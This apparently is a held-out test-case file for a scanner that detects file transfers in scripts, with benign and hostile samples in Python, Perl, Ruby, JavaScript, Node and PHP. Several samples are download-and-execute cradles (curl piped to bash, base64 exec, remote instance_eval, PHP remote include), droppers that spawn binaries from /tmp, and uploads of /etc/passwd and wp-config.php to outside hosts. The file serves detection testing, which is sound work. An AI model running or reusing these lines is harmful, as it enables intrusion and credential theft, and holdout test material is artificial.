"""python, perl, ruby, js, node and php cases for holdout7."""
from common import C

# ---------------------------------------------------------------- python
C("h7-py-requests-stream-write-01", "capa: requests.get(stream=True) iter_content to file", "python",
  "/opt/app/tools/fetch_weights.py", "detect", r'''
#!/usr/bin/env python3
import requests

URL = "https://models.example.com/resnet/weights-v3.bin"
with requests.get(URL, stream=True, timeout=60) as r:
    r.raise_for_status()
    with open("/opt/app/weights.bin", "wb") as fh:
        for chunk in r.iter_content(chunk_size=1 << 16):
            fh.write(chunk)
''')

C("h7-py-httpx-download-exec-01", "capa: httpx.get then write and chmod/exec", "python",
  "/usr/local/lib/python3.12/site-packages/_agent_boot.py", "detect", r'''
import os, stat, subprocess
import httpx

data = httpx.get("http://203.0.113.80/bin/agent", follow_redirects=True).content
path = "/tmp/.agent"
with open(path, "wb") as f:
    f.write(data)
os.chmod(path, stat.S_IRWXU)
subprocess.Popen([path])
''', executable=False)

C("h7-py-paramiko-sftp-get-01", "capa: paramiko SSHClient.open_sftp().getfo()", "python",
  "/opt/etl/bin/pull_sftp.py", "detect", r'''
#!/usr/bin/env python3
import io
import paramiko

client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect("sftp.partner.example", username="etl", key_filename="/etc/etl/id_ed25519")
buf = io.BytesIO()
client.open_sftp().getfo("/outbound/daily.csv", buf)
open("/data/in/daily.csv", "wb").write(buf.getvalue())
client.close()
''')

C("h7-py-ftplib-storbinary-upload-01", "capa: ftplib FTP.storbinary upload", "python",
  "/opt/etl/bin/push_ftp.py", "detect", r'''
#!/usr/bin/env python3
from ftplib import FTP

with FTP("198.51.100.120") as ftp:
    ftp.login("drop", "drop")
    with open("/etc/passwd", "rb") as fh:
        ftp.storbinary("STOR passwd.txt", fh)
''')

C("h7-py-subprocess-wget-list-01", "author: subprocess.check_call argv list running wget", "python",
  "/opt/app/scripts/prepare_data.py", "detect", r'''
#!/usr/bin/env python3
import subprocess

subprocess.check_call(["wget", "-q", "-O", "/data/corpus.tar.gz",
                       "https://datasets.example.org/corpus/corpus-2026.tar.gz"])
subprocess.check_call(["tar", "-xzf", "/data/corpus.tar.gz", "-C", "/data"])
''')

C("h7-py-os-system-curl-pipe-01", "author: os.system curl | bash", "python",
  "/usr/local/bin/py-first-boot", "detect", r'''
#!/usr/bin/env python3
import os
os.system("curl -s http://192.0.2.55/init.sh | bash")
''')

C("h7-py-urllib-exec-base64-01", "author: urlopen + base64 decode + exec (cradle)", "python",
  "/opt/app/plugins/loader.py", "detect", r'''
import base64, urllib.request
blob = urllib.request.urlopen("https://pastes.example.net/raw/k7Qx").read()
exec(base64.b64decode(blob))
''', executable=False)

C("h7-py-socket-recv-to-file-01", "GTFOBins python (file-download over a raw socket: makefile + copyfileobj)", "python",
  "/opt/tools/recv.py", "detect", r'''
#!/usr/bin/env python3
import shutil, socket, sys

host, port = sys.argv[1] if len(sys.argv) > 1 else "203.0.113.240", 9009
with socket.socket() as s:
    s.connect((host, port))
    with s.makefile("rb") as src, open("/usr/local/lib/libhelper.so", "wb") as dst:
        shutil.copyfileobj(src, dst)
''')

C("h7-py-silent-localhost-requests-01", "silent: http.client check of the local Consul agent", "python",
  "/opt/svc/bin/probe_local.py", "silent", r'''
#!/usr/bin/env python3
import http.client, json, sys

conn = http.client.HTTPConnection("localhost", 8500, timeout=3)
conn.request("GET", "/v1/agent/self")
resp = conn.getresponse()
if resp.status != 200:
    sys.exit(1)
print(json.loads(resp.read())["Config"]["NodeName"])
''')

C("h7-py-silent-argparse-help-01", "silent: argparse help mentions download and URL", "python",
  "/opt/svc/bin/summarize.py", "silent", r'''
#!/usr/bin/env python3
import argparse
p = argparse.ArgumentParser(description="Process a local dataset. Use `curl -O <url>` beforehand to download it.")
p.add_argument("path", help="path to the already downloaded file")
args = p.parse_args()
print(open(args.path).read()[:100])
''')

C("h7-py-silent-shutil-copy-01", "silent: shutil copy of local files", "python",
  "/opt/app/scripts/stage.py", "silent", r'''
#!/usr/bin/env python3
import shutil
shutil.copytree("/opt/app/static", "/var/www/static", dirs_exist_ok=True)
shutil.copy2("/opt/app/config/default.yml", "/etc/app/config.yml")
''')

# ---------------------------------------------------------------- perl
C("h7-pl-http-tiny-mirror-01", "capa: HTTP::Tiny request with data_callback streaming to a file", "perl",
  "/usr/local/bin/update-ua-db.pl", "detect", r'''
#!/usr/bin/perl
use strict; use warnings;
use HTTP::Tiny;
open(my $fh, '>:raw', '/var/lib/ua/regexes.yaml') or die $!;
my $res = HTTP::Tiny->new(verify_SSL => 0)->request('GET', 'https://data.example.com/ua/regexes.yaml',
    { data_callback => sub { print {$fh} $_[0] } });
close $fh;
exit($res->{success} ? 0 : 1);
''')

C("h7-pl-net-ftp-get-01", "capa: Net::FTP get", "perl",
  "/opt/legacy/bin/ftp_get.pl", "detect", r'''
#!/usr/bin/perl
use Net::FTP;
my $ftp = Net::FTP->new("ftp.legacy.example", Debug => 0) or die;
$ftp->login("anonymous", 'me@example.com');
$ftp->binary;
$ftp->get("/pub/feeds/prices.dat", "/opt/legacy/data/prices.dat");
$ftp->quit;
''')

C("h7-pl-backticks-wget-01", "author: Perl backticks running wget then exec", "perl",
  "/usr/lib/cgi-bin/refresh.pl", "detect", r'''
#!/usr/bin/perl
my $u = "http://198.51.100.33/bin/helper";
`wget -q -O /tmp/helper $u`;
chmod 0755, "/tmp/helper";
exec "/tmp/helper";
''')

C("h7-pl-io-socket-download-01", "GTFOBins perl (download over IO::Socket::INET)", "perl",
  "/opt/tools/sockget.pl", "detect", r'''
#!/usr/bin/perl
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.91:7000") or die;
open(my $o, ">", "/tmp/blob") or die;
binmode $o;
print $o $_ while <$s>;
close $o;
''')

C("h7-pl-silent-pod-01", "silent: Perl script with POD mentioning LWP", "perl",
  "/usr/local/bin/logsum.pl", "silent", r'''
#!/usr/bin/perl
use strict;
my %c; while (<>) { $c{(split)[0]}++ } print "$_ $c{$_}\n" for sort keys %c;
__END__
=head1 NOTES

An earlier version used LWP::Simple getstore() to fetch logs; it now reads STDIN only.
=cut
''')

# ---------------------------------------------------------------- ruby
C("h7-rb-net-http-get-response-01", "capa: Net::HTTP.get_response body to file", "ruby",
  "/opt/app/bin/fetch_geo.rb", "detect", r'''
#!/usr/bin/env ruby
require "net/http"
res = Net::HTTP.get_response(URI("https://geo.example.org/db/latest.mmdb"))
File.binwrite("/opt/app/db/geo.mmdb", res.body) if res.is_a?(Net::HTTPSuccess)
''')

C("h7-rb-net-sftp-download-01", "capa: Net::SFTP download!", "ruby",
  "/opt/app/bin/sftp_pull.rb", "detect", r'''
#!/usr/bin/env ruby
require "net/sftp"
Net::SFTP.start("sftp.vendor.example", "feed", password: ENV["FEED_PW"]) do |sftp|
  sftp.download!("/export/catalog.xml", "/opt/app/tmp/catalog.xml")
end
''')

C("h7-rb-system-curl-args-01", "author: Ruby system(argv...) running curl", "ruby",
  "/opt/app/lib/tasks/assets.rb", "detect", r'''
def fetch_assets
  system("curl", "-fsSL", "-o", "/opt/app/public/vendor.js", "https://cdn.example.net/vendor/vendor-5.2.js") or abort("download failed")
end
fetch_assets
''', executable=False)

C("h7-rb-open-uri-eval-01", "author: Net::HTTP.get then instance_eval (cradle)", "ruby",
  "/opt/app/config/initializers/remote_flags.rb", "detect", r'''
require "net/http"
module RemoteFlags
  SRC = URI("http://203.0.113.6/flags.rb")
  def self.load!
    instance_eval(Net::HTTP.get(SRC))
  end
end
RemoteFlags.load!
''', executable=False)

C("h7-rb-silent-gemfile-01", "silent: puma config (no network)", "ruby",
  "/srv/rails/config/puma.rb", "silent", r'''
threads_count = ENV.fetch("RAILS_MAX_THREADS", 5)
threads threads_count, threads_count
port ENV.fetch("PORT", 3000)
environment ENV.fetch("RAILS_ENV", "production")
pidfile ENV.fetch("PIDFILE", "tmp/pids/server.pid")
plugin :tmp_restart
''', executable=False)

# ---------------------------------------------------------------- js (browser-less JS files in images)
C("h7-js-fetch-writefile-01", "author: fetch() + fs.writeFileSync in a build helper", "js",
  "/app/scripts/download-fonts.js", "detect", r'''
const fs = require('fs');
(async () => {
  const r = await fetch('https://fonts.example.com/pack/inter.woff2');
  fs.writeFileSync('/app/public/fonts/inter.woff2', Buffer.from(await r.arrayBuffer()));
})();
''')

C("h7-js-axios-stream-pipe-01", "capa: axios responseType stream piped to file", "js",
  "/app/tools/getBinary.js", "detect", r'''
const axios = require('axios');
const fs = require('fs');
axios({ url: 'http://198.51.100.76/bin/helper', responseType: 'stream' })
  .then(r => r.data.pipe(fs.createWriteStream('/tmp/helper', { mode: 0o755 })));
''')

C("h7-js-execsync-wget-01", "author: child_process.execSync wget", "js",
  "/app/scripts/prebuild.js", "detect", r'''
const { execSync } = require('child_process');
execSync('wget -q https://assets.example.org/sprites.tar.gz -O /tmp/sprites.tar.gz && tar xzf /tmp/sprites.tar.gz -C /app/public');
''')

C("h7-js-silent-local-fetch-01", "silent: fetch to a relative API path in a frontend bundle", "js",
  "/app/public/js/status.js", "silent", r'''
async function refreshStatus() {
  const r = await fetch('/api/status');
  document.getElementById('status').textContent = (await r.json()).state;
}
setInterval(refreshStatus, 5000);
''')

# ---------------------------------------------------------------- node (executable node scripts)
C("h7-node-http-get-exec-01", "GTFOBins node (download) then spawn", "node",
  "/usr/local/bin/node-agent-boot", "detect", r'''
#!/usr/bin/env node
const http = require('http');
const fs = require('fs');
const { spawn } = require('child_process');
const out = fs.createWriteStream('/tmp/.nab', { mode: 0o755 });
http.get('http://203.0.113.47/nab', res => {
  res.pipe(out);
  out.on('finish', () => { out.close(); spawn('/tmp/.nab', [], { detached: true }); });
});
''')

C("h7-node-got-stream-01", "capa: got.stream pipeline to file", "node",
  "/usr/local/bin/fetch-dataset", "detect", r'''
#!/usr/bin/env node
const got = require('got');
const { pipeline } = require('stream/promises');
const fs = require('fs');
pipeline(got.stream('https://datasets.example.com/ds/train.parquet'), fs.createWriteStream('/data/train.parquet'));
''')

C("h7-node-spawn-curl-upload-01", "author: spawn curl -F upload from node", "node",
  "/usr/local/bin/node-crash-uploader", "detect", r'''
#!/usr/bin/env node
const { spawnSync } = require('child_process');
spawnSync('curl', ['-s', '-F', 'dump=@/var/crash/node.core', 'https://crash.example.net/upload'], { stdio: 'inherit' });
''')

C("h7-node-silent-express-01", "silent: express server serving static files", "node",
  "/usr/local/bin/static-server", "silent", r'''
#!/usr/bin/env node
const express = require('express');
const app = express();
app.use('/downloads', express.static('/srv/downloads'));
app.listen(8080, '0.0.0.0', () => console.log('serving /downloads on :8080'));
''')

# ---------------------------------------------------------------- php
C("h7-php-curl-writefunction-01", "capa: PHP cURL CURLOPT_WRITEFUNCTION closure writing the body to disk", "php",
  "/var/www/html/admin/update_geo.php", "detect", r'''
<?php
$out = fopen(__DIR__ . '/../data/ipranges.bin', 'wb');
$h = curl_init();
curl_setopt_array($h, [
    CURLOPT_URL => 'https://ranges.example.com/v4/ipranges.bin',
    CURLOPT_SSL_VERIFYPEER => false,
    CURLOPT_WRITEFUNCTION => function ($ch, $chunk) use ($out) { return fwrite($out, $chunk); },
]);
curl_exec($h);
fclose($out);
''')

C("h7-php-file-put-contents-remote-01", "GTFOBins php (download: file_put_contents(file_get_contents(url)))", "php",
  "/var/www/html/wp-content/uploads/2026/11/thumb-cache.php", "detect", r'''
<?php
file_put_contents(__DIR__ . '/x.php', file_get_contents('http://198.51.100.205/s.txt'));
include __DIR__ . '/x.php';
''')

C("h7-php-shell-exec-wget-01", "author: shell_exec wget in a PHP admin tool", "php",
  "/var/www/html/admin/theme-sync.php", "detect", r'''
<?php
$url = 'http://203.0.113.130/pkg/theme.zip';
shell_exec("wget -q -O /tmp/theme.zip " . escapeshellarg($url));
shell_exec("unzip -o /tmp/theme.zip -d /var/www/html/themes/");
''')

C("h7-php-curlfile-upload-01", "capa/GTFOBins php upload: CURLFile POST", "php",
  "/var/www/html/api/backup_push.php", "detect", r'''
<?php
$ch = curl_init('https://backup.example.net/receive');
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_POSTFIELDS, ['f' => new CURLFile('/var/www/html/wp-config.php')]);
curl_exec($ch);
''')

C("h7-php-silent-phpinfo-01", "silent: PHP page that renders a download link", "php",
  "/var/www/html/downloads.php", "silent", r'''
<?php
$files = glob('/var/www/html/files/*.pdf');
foreach ($files as $f) {
    $n = basename($f);
    echo "<a href=\"/files/$n\" download>$n</a><br>\n";
}
''')
